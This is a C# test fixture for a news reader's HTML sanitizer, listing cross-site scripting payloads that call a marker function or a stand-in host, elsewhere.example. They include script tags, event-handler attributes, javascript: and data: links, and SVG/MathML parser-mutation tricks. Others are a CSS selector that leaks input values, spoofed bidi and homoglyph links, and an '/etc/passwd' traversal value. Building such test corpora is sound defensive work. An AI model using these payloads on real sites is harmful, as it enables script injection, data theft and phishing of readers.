namespace NewsReader.Tests.Hostile;

/// <summary>
/// What somebody might write to have it run in the page of a reader, or to have the reader's browser ask another server. Whatever runs
/// calls
/// <see cref="Alarm"/>; whatever is asked for lies at <see cref="Elsewhere"/>.
/// </summary>
internal static class HostilePayloads
{
    /// <summary>A call of the function that notes that something ran.</summary>
    public const string Alarm = "tripped(1)";

    /// <summary>A server that no page may ask.</summary>
    public const string Elsewhere = "https://elsewhere.example";

    /// <summary>Markup, each for a reason of its own.</summary>
    public static readonly IReadOnlyList<string> Markup =
    [
        // Scripts, plain and in disguise.
        $"<script>{Alarm}</script>",
        $"<ScRiPt >{Alarm}</sCrIpT\n>",
        $"<script src=\"{Elsewhere}/s.js\"></script>",
        $"<script/src={Elsewhere}/s.js>",
        $"<scr<script>ipt>{Alarm}</scr</script>ipt>",
        $"<script type=module>import '{Elsewhere}/m.js'; {Alarm}</script>",
        $"<script><!-- {Alarm} //--></script>",
        $"<<script>{Alarm}//<</script>",
        $"<noscript><p title=\"</noscript><img src=x onerror={Alarm}>\"></noscript>",
        $"<template><script>{Alarm}</script><img src=x onerror={Alarm}></template>",
        $"<template shadowrootmode=open><script>{Alarm}</script></template>",

        // Attributes that run.
        $"<img src=x onerror={Alarm}>",
        $"<img src=x onerror=\"{Alarm}\" style=\"position:fixed;inset:0;width:100vw;height:100vh\">",
        $"<img/src=x/onerror={Alarm}>",
        $"<img src=`x`onerror={Alarm}>",
        $"<img src=x onerror=&#116;&#114;&#105;&#112;&#112;&#101;&#100;(1)>",
        $"<p onmouseover={Alarm} onclick={Alarm} onfocus={Alarm} tabindex=0 autofocus>متن</p>",
        $"<body onload={Alarm} onpageshow={Alarm} onhashchange={Alarm}>",
        $"<input autofocus onfocus={Alarm}>",
        $"<select autofocus onfocus={Alarm}></select><textarea autofocus onfocus={Alarm}></textarea>",
        $"<details open ontoggle={Alarm}><summary>متن</summary></details>",
        $"<marquee onstart={Alarm}>متن</marquee>",
        $"<video><source onerror={Alarm} src=x></video><audio src=x onerror={Alarm}></audio>",
        $"<p style=\"animation-name:x\" onanimationstart={Alarm}>متن</p><style>@keyframes x{{}}</style>",
        $"<dialog open oncancel={Alarm}>متن</dialog><p popover id=pop onbeforetoggle={Alarm}>متن</p>",
        $"<p onpointerrawupdate={Alarm} onwheel={Alarm} oncopy={Alarm}>متن</p>",
        $"<xss onfocus={Alarm} autofocus tabindex=1>متن</xss>",

        // Addresses that run.
        $"<a href=\"javascript:{Alarm}\">پیوند</a>",
        $"<a href=\" \u0001JaVaScRiPt&colon;{Alarm}\">پیوند</a>",
        $"<a href=\"java\tscr\nipt:{Alarm}\">پیوند</a>",
        $"<a href=\"&#x6A;&#97;vascript&#58;{Alarm}\">پیوند</a>",
        $"<a href=\"javascript://example.org/%0A{Alarm}\">پیوند</a>",
        $"<a href=\"vbscript:{Alarm}\">پیوند</a>",
        $"<a href=\"data:text/html,<script>{Alarm}</script>\">پیوند</a>",
        $"<a href=\"data:text/html;base64,PHNjcmlwdD50cmlwcGVkKDEpPC9zY3JpcHQ+\">پیوند</a>",
        $"<a href=\"blob:https://example.org/1\">پیوند</a><a href=\"filesystem:https://example.org/1\">پیوند</a><a "
            + $"href=\"view-source:javascript:{Alarm}\">پیوند</a>",
        $"<a href=https://example.org ping={Elsewhere}/ping>پیوند</a>",
        $"<form action=\"javascript:{Alarm}\"><button formaction=\"javascript:{Alarm}\">برو</button><input type=image "
            + $"src={Elsewhere}/i.png></form>",
        $"<iframe src=\"javascript:{Alarm}\"></iframe>",
        $"<iframe srcdoc=\"<script>parent.{Alarm}</script>\"></iframe>",
        $"<iframe src={Elsewhere}/frame></iframe><frameset><frame src={Elsewhere}/f></frameset>",
        $"<object data=\"javascript:{Alarm}\"></object><embed src=\"{Elsewhere}/e.swf\"><applet code=x archive={Elsewhere}/a.jar></applet>",
        $"<object type=text/html data=\"data:text/html,<script>parent.{Alarm}</script>\"></object>",
        $"<portal src={Elsewhere}/p></portal><fencedframe src={Elsewhere}/p></fencedframe>",

        // Other languages within the page, and what browsers make of them when they read it again.
        $"<svg onload={Alarm}><script>{Alarm}</script><image href=x onerror={Alarm} /></svg>",
        $"<svg><animate onbegin={Alarm} attributeName=x dur=1s></svg>",
        $"<svg><a xlink:href=\"javascript:{Alarm}\"><text y=20>پیوند</text></a><use href=\"data:image/svg+xml,<svg id=x "
            + $"xmlns='http://www.w3.org/2000/svg'><image href=1 onerror={Alarm} /></svg>#x\" /></svg>",
        $"<svg><style><img src=x onerror={Alarm}></style></svg>",
        $"<svg></p><style><a id=\"</style><img src=1 onerror={Alarm}>\"></svg>",
        $"<svg><foreignObject><iframe srcdoc=\"<script>parent.{Alarm}</script>\"></iframe></foreignObject></svg>",
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Alarm}&gt;\"></table></mtext></math>",
        $"<math href=\"javascript:{Alarm}\">متن</math><math><maction actiontype=statusline "
            + $"xlink:href=\"javascript:{Alarm}\">متن</maction></math>",
        $"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={Alarm} src>\">",
        $"<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src=x "
            + $"onerror={Alarm}>\"></style></annotation-xml></math>",
        $"<table><tr><td><style><!--</style></td></tr></table><img title=\"--><img src=x onerror={Alarm}>\">",
        $"<p title=\"<!--\"></p><img title=\"--><img src=x onerror={Alarm}>\">",
        $"<!--><img src=x onerror={Alarm}>--><!-- --!><img src=x onerror={Alarm}> -->",
        $"<![CDATA[><img src=x onerror={Alarm}>]]>",
        $"<?xml version=\"1.0\"?><?php {Alarm} ?><%= {Alarm} %>",
        $"<xmp><p title=\"</xmp><img src=x onerror={Alarm}>\"></xmp><plaintext><script>{Alarm}</script>",
        $"<noembed><p title=\"</noembed><img src=x onerror={Alarm}>\"></noembed><noframes><p title=\"</noframes><img src=x "
            + $"onerror={Alarm}>\"></noframes>",
        $"<textarea><p title=\"</textarea><img src=x onerror={Alarm}>\"></textarea><title><p title=\"</title><img src=x "
            + $"onerror={Alarm}>\"></title>",
        $"<select><option><style></option></select><img src=x onerror={Alarm}></style>",
        $"<a><a href=x><table><a><td></a><img src=x onerror={Alarm}></table>",
        $"<p><b><i><u><s><em><strong><table><tr><a><form><form><p></b><img src=x onerror={Alarm}>",
        $"<noscript><style><!--</noscript><img src=x onerror={Alarm}>--></style>",
        "<img src=x onerror\u0000=" + Alarm + "><a href=\"java\u0000script:" + Alarm + "\">پیوند</a>",
        $"+ADw-script+AD4-{Alarm}+ADw-/script+AD4-",

        // What asks others.
        $"<img src={Elsewhere}/i.png srcset=\"{Elsewhere}/2.png 2x\" lowsrc={Elsewhere}/l.png>",
        $"<picture><source srcset={Elsewhere}/p.webp><img src={Elsewhere}/p.png></picture>",
        $"<video src={Elsewhere}/v.mp4 poster={Elsewhere}/p.png autoplay></video><audio src={Elsewhere}/a.mp3 autoplay></audio><track "
            + $"src={Elsewhere}/t.vtt>",
        $"<p style=\"background:url({Elsewhere}/b.png);position:fixed;inset:0;z-index:9\">متن</p>",
        $"<style>@import '{Elsewhere}/s.css'; body{{display:none}} @font-face{{font-family:x;src:url({Elsewhere}/f.woff)}} "
            + $"*{{font-family:x}}</style>",
        $"<style>input[value^=a]{{background:url({Elsewhere}/a)}} header,footer{{display:none!important}}</style>",
        $"<link rel=stylesheet href={Elsewhere}/s.css><link rel=prefetch href={Elsewhere}/p><link rel=preload as=image "
            + $"href={Elsewhere}/q><link rel=dns-prefetch href={Elsewhere}>",
        $"<meta http-equiv=refresh content=\"0;url={Elsewhere}/go\"><meta http-equiv=set-cookie content=\"a=b\"><meta name=referrer "
            + "content=unsafe-url>",
        $"<base href={Elsewhere}/><a href=x>پیوند</a>",
        $"<table background={Elsewhere}/t.png><tr><td background={Elsewhere}/d.png>متن</td></tr></table><body "
            + $"background={Elsewhere}/b.png>",
        $"<a href=https://example.org attributionsrc={Elsewhere}/x>پیوند</a><img attributionsrc={Elsewhere}/y src=x>",
        $"<q cite={Elsewhere}/c>متن</q><blockquote cite={Elsewhere}/c>متن</blockquote><html manifest={Elsewhere}/m>",

        // What takes the place of the page's own parts.
        "<p id=main name=body class=\"site-header masthead\">متن</p><a id=location href=https://example.org>پیوند</a><form id=search "
            + "name=attributes><input name=id></form>",
        "<img name=getElementById><img name=cookie><form name=documentElement></form><a id=trustedTypes></a><a id=tripped></a>",
        "<div style=\"position:fixed;inset:0;background:white;z-index:99999\">صفحهٔ دروغین</div><div class=\"progress vh skip panel "
            + "toast\">متن</div>",
        "<header>سرصفحهٔ دروغین</header><nav>راهبری دروغین</nav><footer>پاصفحهٔ دروغین</footer><main>متن دروغین</main><h1>عنوان "
            + "دروغین</h1>",
        "</div></article></main></body></html><footer>پاصفحهٔ دروغین</footer>",
        "<p dir=rtl>\u202Eمتن وارونه\u202D و \u2066تو در تو\u2066\u2067\u2068 بی‌پایان</p><bdo dir=ltr>وارونه</bdo>",
        "<a href=\"https://\u0430pple.example/\u202Egpj.exe\">https://apple.example</a><a href=\"https://user:word@example.org\">پیوند</a>",
        "<p>م" + string.Concat(Enumerable.Repeat("\u0651\u064E", 13)) + "</p>",
        "<table width=99999><tr><td nowrap>" + "درازتر‌از‌هر‌صفحه‌ای" + "</td></tr></table><pre>"
            + new string('-', 201) + "</pre>",
    ];

    /// <summary>What fields that are no markup might hold.</summary>
    public static readonly IReadOnlyList<string> Values =
    [
        $"<script>{Alarm}</script>",
        $"<img src=x onerror={Alarm}>",
        $"\"><img src=x onerror={Alarm}>",
        $"' onmouseover={Alarm} x='",
        $"\" autofocus onfocus={Alarm} x=\"",
        $"</title><script>{Alarm}</script>",
        $"</textarea></a></h1><script>{Alarm}</script>",
        $"&lt;img src=x onerror={Alarm}&gt;",
        $"&amp;lt;script&amp;gt;{Alarm}&amp;lt;/script&amp;gt;",
        $"javascript:{Alarm}",
        $"{{{{constructor.constructor('{Alarm}')()}}}} ${{{Alarm}}}",
        "نان \u202Eنارا\u202C \u2067گران\u2069",
        "../../../../etc/passwd",
        $"{Elsewhere}/i.png",
    ];
}
